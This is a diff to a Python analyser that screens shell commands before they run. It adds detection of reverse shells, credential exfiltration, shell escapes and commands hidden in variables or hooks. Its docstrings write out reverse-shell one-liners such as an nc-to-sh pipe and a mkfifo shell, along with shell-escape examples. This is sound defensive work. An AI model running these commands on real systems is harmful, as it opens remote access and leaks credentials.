@@ -16,6 +16,8 @@ import re
 from dataclasses import dataclass, field
 from itertools import pairwise
 
+from app.terminal import code_checks
+from app.terminal import network_checks as net
 from app.terminal import risky_paths as paths
 from app.terminal.command_words import (
     DOWNLOADERS,
@@ -32,7 +34,10 @@ from app.terminal.command_words import (
     shell_code,
     static_output,
 )
+from app.terminal.containment import uncovered
+from app.terminal.embedded_code import COMMAND_VARIABLES, awk_program, hidden_commands, make_recipes
 from app.terminal.program_checks import (
+    REMOTE_SHELL,
     assignment_reasons,
     find_exec_commands,
     find_roots,
@@ -50,16 +55,16 @@ _SUSPICIOUS = frozenset({"rm", "dd", "shred", "wipefs", "fdisk", "parted", "shut
 _CODE_RUNNERS = frozenset({"eval", "watch", "ssh", "su", "runuser", "script", "trap", "flock"})
 _FUNC_DEF_RE = re.compile(r"(?:\bfunction\s+([^\s(){};|&]{1,64})\s*(?:\(\s*\))?|"
                           r"(?<![^\s;&|(){}])([^\s(){};|&]{1,64})\s*\(\s*\))\s*\{([^{}]{0,500})\}")
-_FORK_LOOP_RE = re.compile(r"fork\s*(?:\(\s*\))?\s*while\s*fork|while\s*\(?\s*(?:True|true|1)\s*"
-                           r"\)?\s*[:{;]?\s*(?:do\s+)?(?:os\.)?fork\b|loop\s*\{\s*fork\b")
-_SHELL_CALL_RE = re.compile(
-    r"\b(?:system|popen|spawn\w*|exec\w*|call|run|check_output|check_call|Popen|getoutput|"
-    r"getstatusoutput|shell_exec|passthru)\s*\(\s*(\[[^\]]*\]|[rbfu]{0,2}(['\"]).*?(?<!\\)\2)",
-    re.S)
-_STRING_RE = re.compile(r"(['\"])(.*?)(?<!\\)\1", re.S)
 _BACKTICK_RE = re.compile(r"`([^`]+)`")
-_RMTREE_RE = re.compile(r"\b(?:rmtree|rm_rf|rmSync|rimraf|remove_dir_all)\s*\(\s*[rbfu]{0,2}"
-                        r"(['\"])(.+?)\1")
+
+
+@dataclass(frozen=True)
+class Segment:
+    """A simple command as an allow rule sees it: program and arguments only, and the parts
+    (redirections, substitutions, code, output options, hooks) no rule may cover."""
+
+    text: str
+    uncovered: tuple[str, ...] = ()
 
 
 @dataclass(frozen=True)
@@ -71,7 +76,7 @@ class Analysis:
 
     reasons: tuple[str, ...]
     certain: bool
-    segments: tuple[str, ...]
+    segments: tuple[Segment, ...]
 
 
 @dataclass
@@ -98,6 +103,10 @@ def analyse(command: str) -> Analysis:
         return Analysis((f"is too long to check ({len(command)} characters)",), False, ())
     inspector = _Inspector()
     inspector.inspect(command, 0)
+    if inspector.secrets and inspector.senders:
+        inspector.reasons.append(
+            f"reads your keys or credentials ({inspector.secrets[0]}) and sends them to another "
+            f"machine ({inspector.senders[0]})")
     return Analysis(tuple(dict.fromkeys(inspector.reasons)), inspector.certain,
                     tuple(inspector.segments))
 
@@ -108,7 +117,7 @@ def _fork_bomb(text: str) -> bool:
         if re.search(rf"(?<![\w./-]){name}(?:\s*\|\s*{name}(?![\w./-])|\s*&(?!&))",
                      match.group(3)):
             return True
-    return bool(_FORK_LOOP_RE.search(text))
+    return False
 
 
 def _fetches(text: str) -> bool:
@@ -166,7 +175,16 @@ class _Inspector:
     def __init__(self) -> None:
         self.reasons: list[str] = []
         self.certain = True
-        self.segments: list[str] = []
+        self.segments: list[Segment] = []
+        self.secrets: list[str] = []
+        self.senders: list[str] = []
+        self.via: str | None = None
+
+    def inspect_hosted(self, code: str, depth: int, host: str) -> None:
+        """Inspects a command another program (`host`) runs for us: a hook, an escape."""
+        outer, self.via = self.via, host
+        self.inspect(code, depth + 1)
+        self.via = outer
 
     def inspect(self, text: str, depth: int) -> None:
         if depth > MAX_DEPTH:
@@ -182,6 +200,27 @@ class _Inspector:
         line = _Line()
         for command in commands:
             self.inspect_command(command, line, depth)
+        self._remote_shell_pipes(commands)
+
+    def _remote_shell_pipes(self, commands: list[Command]) -> None:
+        """`nc host 4444 | sh`, `mkfifo f; cat f | sh -i | nc host 4444 > f`: a shell whose
+        input or output flows through a network connection."""
+        kinds = {id(command): self._pipe_kind(command) for command in commands}
+        if not {"shell", "net"} <= set(kinds.values()):
+            return
+        for command in commands:
+            upstream = {kinds.get(id(c)) for c in command.upstream}
+            mine = kinds[id(command)]
+            if (mine == "shell" and "net" in upstream) or (mine == "net" and "shell" in upstream):
+                self.reasons.append(REMOTE_SHELL)
+                return
+
+    @staticmethod
+    def _pipe_kind(command: Command) -> str:
+        resolved = resolve([w.text for w in command.words])
+        if net.reads_stdin_shell(resolved.name, resolved.args, command.stdin_text is not None):
+            return "shell"
+        return "net" if net.connector(resolved.name, resolved.args) else ""
 
     def _inspect_unparseable(self, text: str, depth: int) -> None:
         """Unclosed quotes and the like: read a repaired copy, and distrust risky words."""
@@ -204,7 +243,7 @@ class _Inspector:
         if hits:
             self.reasons.append(f"could not be read reliably and mentions {', '.join(hits)}")
 
-    def inspect_program_text(self, code: str, depth: int) -> None:
+    def inspect_program_text(self, code: str, depth: int, host: str = "a script") -> None:
         """Scans Python/Perl/Ruby/Node code for shell commands and recursive deletes.
 
         Only the calls that run a shell are read, so `print('reboot')` stays harmless; what
@@ -213,29 +252,27 @@ class _Inspector:
         certain = self.certain
         if _fork_bomb(code):
             self.reasons.append("fork bomb: starts copies of itself until the computer freezes")
-        for match in _SHELL_CALL_RE.finditer(code):
-            argument = match.group(1)
-            if argument.startswith("["):
-                self.inspect(" ".join(s for _q, s in _STRING_RE.findall(argument)), depth)
-            elif literal := _STRING_RE.search(argument):
-                self.inspect(literal.group(2), depth)
+        for shell_command in code_checks.shell_calls(code):
+            self.inspect_hosted(shell_command, depth - 1, host)
         for match in _BACKTICK_RE.finditer(code):
-            self.inspect(match.group(1), depth)
-        for match in _RMTREE_RE.finditer(code):
-            path = paths.expand(match.group(2))
-            if path and (described := paths.describe_precious(path)):
-                self.reasons.append(f"recursive delete of {described}")
+            self.inspect_hosted(match.group(1), depth - 1, host)
+        self.reasons += code_checks.code_reasons(code)
+        if code_checks.sends_over_network(code):
+            self.senders.append(host)
+        if paths.mentions_secret(code_checks.normalise(code).replace('"~"', "~")):
+            self.secrets.append(f"read by {host} code")
         self.certain = certain
 
     def inspect_command(self, command: Command, line: _Line, depth: int) -> None:
         for word in command.words + [r.target for r in command.redirects]:
             for inner in word.substitutions:
                 self.inspect(inner, depth + 1)
-        self.segments.append(" ".join([w.text for w in command.words]
-                                      + [f"{r.op} {r.target.text}" for r in command.redirects]))
         resolved = resolve(*_static_words(command, line.variables))
+        self.segments.append(Segment(" ".join(w.text for w in command.words),
+                                     uncovered(command, resolved)))
         for name, value in resolved.assignments:
             self.reasons += assignment_reasons(name, value)
+            self._command_variable(name, value, depth)
             if not resolved.name:
                 line.variables[name] = value
         for code in resolved.extra_code:
@@ -251,15 +288,27 @@ class _Inspector:
         name, args = resolved.name, resolved.args
         piped = self._xargs_inputs(resolved, command)
         self.reasons += program_reasons(name, args, line.cwd, piped)
+        self._network(resolved, command)
+        self._interactive_shell(resolved, command)
         if name in ("export", "declare", "typeset", "readonly", "local"):
             for key, sep, value in (arg.partition("=") for arg in args):
                 if sep:
                     self.reasons += assignment_reasons(key, value)
+                    self._command_variable(key, value, depth)
                     line.variables[key] = value
         if name == "find":
+            outer, self.via = self.via, "find"
             for inner in find_exec_commands(args):
                 self.inspect_command(Command([Word(t) for t in inner]), _Line(cwd=line.cwd),
                                      depth + 1)
+            self.via = outer
+        for hidden in hidden_commands(name, args):
+            self.inspect_hosted(hidden, depth, name)
+        if name in ("awk", "gawk", "mawk", "nawk") and (program := awk_program(args)):
+            self.reasons += code_checks.code_reasons(program)
+        if name == "make" and command.stdin_text and set(args) & {"-", "/dev/stdin"}:
+            for recipe in make_recipes(command.stdin_text):
+                self.inspect_hosted(recipe, depth, "make")
         self._runner(resolved, command, line, depth)
         line.downloaded |= download_outputs(name, args)
         if name in DOWNLOADERS:
@@ -268,6 +317,31 @@ class _Inspector:
         if name in ("cd", "pushd"):
             target = next((a for a in args if not a.startswith("-")), "~")
             line.cwd = None if target == "-" else paths.expand(target, line.cwd)
+
+    def _command_variable(self, name: str, value: str, depth: int) -> None:
+        """`PAGER='sh -c …'`, `LESSOPEN='|…'`: the value is a command some program runs."""
+        if name in COMMAND_VARIABLES and value:
+            self.inspect_hosted(value.lstrip("|"), depth, name)
+
+    def _network(self, resolved: Resolved, command: Command) -> None:
+        """Collects the two halves of sending keys away: reading them, and the network."""
+        name, args = resolved.name, resolved.args
+        self.secrets += net.secret_data(name, args)
+        inputs = [r.target.text for r in command.redirects if r.op in ("<", "<>")]
+        self.secrets += net.secret_redirects(inputs)
+        if net.is_sender(name, args):
+            self.senders.append(name)
+
+    def _interactive_shell(self, resolved: Resolved, command: Command) -> None:
+        """A shell reading the terminal, started through another program (`find -exec sh`,
+        `vim -c ':!sh'`, `env /bin/sh`, `pty.spawn("/bin/sh")`): a way out of every check."""
+        if resolved.name not in SHELLS or command.stdin_text is not None or command.upstream:
+            return
+        host = self.via or ("a wrapper" if resolved.wrapped else None)
+        code, reads_stdin, _script = shell_code(resolved.args)
+        if host and code is None and reads_stdin:
+            self.reasons.append(f"opens an interactive shell through {host}, where nothing "
+                                f"it runs is checked (shell escape)")
 
     def _hidden_program(self, resolved: Resolved, line: _Line) -> None:
         """The program name comes from a variable or substitution Flywheel cannot know."""
@@ -282,8 +356,10 @@ class _Inspector:
                     self.reasons.append(f"runs a hidden command recursively on {described}")
 
     def _redirect(self, op: str, target: str, resolved: Resolved, line: _Line) -> None:
-        if target.startswith(("/dev/tcp/", "/dev/udp/")) and resolved.name in SHELLS:
-            self.reasons.append("connects a shell to another machine (reverse shell)")
+        if target.startswith(("/dev/tcp/", "/dev/udp/")):
+            self.senders.append(target)
+            if resolved.name in SHELLS or resolved.name in ("exec", ""):
+                self.reasons.append(REMOTE_SHELL)
         duplicates_fd = op == ">&" and (target.isdigit() or target == "-")
         if op in WRITE_REDIRECT_OPS and not duplicates_fd and (
                 reason := paths.write_target_reason(target, line.cwd)):
@@ -322,7 +398,9 @@ class _Inspector:
             return
         if code is not None:
             if name in INTERPRETERS:
-                self.inspect_program_text(code, depth + 1)
+                self.inspect_program_text(code, depth + 1, name)
+            elif name in _CODE_RUNNERS:
+                self.inspect_hosted(code, depth, name)
             else:
                 self.inspect(code, depth + 1)
         if any(_fetches(inner) for word in resolved.arg_words for inner in word.substitutions):
@@ -336,7 +414,7 @@ class _Inspector:
         """Code arriving on stdin: a here-document, or whatever is piped in."""
         if command.stdin_text is not None:
             if name in INTERPRETERS:
-                self.inspect_program_text(command.stdin_text, depth + 1)
+                self.inspect_program_text(command.stdin_text, depth + 1, name)
             else:
                 self.inspect(command.stdin_text, depth + 1)
         for upstream in command.upstream:
